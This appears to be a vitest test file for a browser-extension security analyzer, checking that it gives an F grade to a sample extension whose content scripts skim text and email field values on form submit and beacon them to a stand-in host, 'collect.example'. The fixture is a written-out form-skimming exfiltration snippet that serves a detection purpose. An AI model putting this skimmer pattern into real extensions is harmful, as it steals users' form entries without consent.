import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

const MANIFEST = JSON.stringify({
  manifest_version: 3,
  name: 'Sample',
  version: '1',
  content_scripts: [{ matches: ['<all_urls>'], js: ['fields.js', 'send.js'] }],
});
const graded = async (property: string): Promise<string> => {
  const { score } = await analyze(
    memoryTree({
      'manifest.json': MANIFEST,
      'fields.js': `const KINDS = new Set(['text', 'email']); const isField = (el) => KINDS.has(el.type); function describe(el) { return { label: el.name, value: ${property} }; } function fieldsIn(root) { return [...root.querySelectorAll('input, textarea')].filter(isField); }`,
      'send.js': `document.addEventListener('submit', (event) => { const items = fieldsIn(event.target).map(describe); navigator.sendBeacon('https://collect.example/o', JSON.stringify({ items })); }, true);`,
    }),
    { kind: 'extension' },
  );
  return score.grade;
};

it('elements that a function of another script finds, and one more is handed by its name', async () => {
  expect(await graded('el.value')).toBe('F');
  expect(await graded('el.tagName')).toMatch(/^A/);
});
